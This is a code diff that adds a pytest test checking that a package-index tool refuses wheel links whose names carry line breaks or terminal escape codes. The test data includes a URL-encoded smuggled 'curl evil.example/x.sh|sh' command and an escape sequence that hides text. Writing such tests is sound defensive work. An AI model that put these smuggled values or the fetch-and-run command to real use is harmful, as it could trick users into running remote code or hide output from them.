@@ -142,3 +142,24 @@ def test_unknown_kernel_and_bad_python(cpu_python: Path, index: str, tmp_path: P
     assert code == 2 and "no such project" in err
     code, _, err = which("--python", tmp_path / "missing")
     assert code == 2 and "no such interpreter" in err
+
+
+@pytest.mark.parametrize("href", [
+    "../../../files/evil-1.0-py3-none-any.whl%0Apip%20%20%20%20%20%20curl%20evil.example/x.sh%7Csh%0A.whl",
+    "../../../files/evil-1.0-py3-none-any%1B%5B8m.whl",
+])  # fmt: skip
+def test_an_index_cannot_forge_what_which_prints(href: str, cpu_python: Path, tmp_path: Path) -> None:
+    """A link whose name carries a line break or an escape: refused in one line, nothing printed raw."""
+    site = tmp_path / "site"
+    for page in ("simple/evil", "variants/torch213cpucxx11/simple/evil"):
+        (site / page).mkdir(parents=True)
+        link = f'<a href="{href}#sha256={"0" * 64}">evil</a>'
+        (site / page / "index.html").write_text(f"<html><body>{link}</body></html>")
+    with http_server(site) as url:
+        code, out, err = which("--python", cpu_python, "--index-url", url, "--kernel", "evil")
+    assert (code, out) == (3, "")
+    assert len(err.splitlines()) == 1 and "\x1b" not in err
+    line = err.strip()
+    assert line.startswith(f"error: {url}/variants/torch213cpucxx11/simple/evil/ lists ") and line.endswith(
+        "fix the index"), line
+    assert line.isprintable()
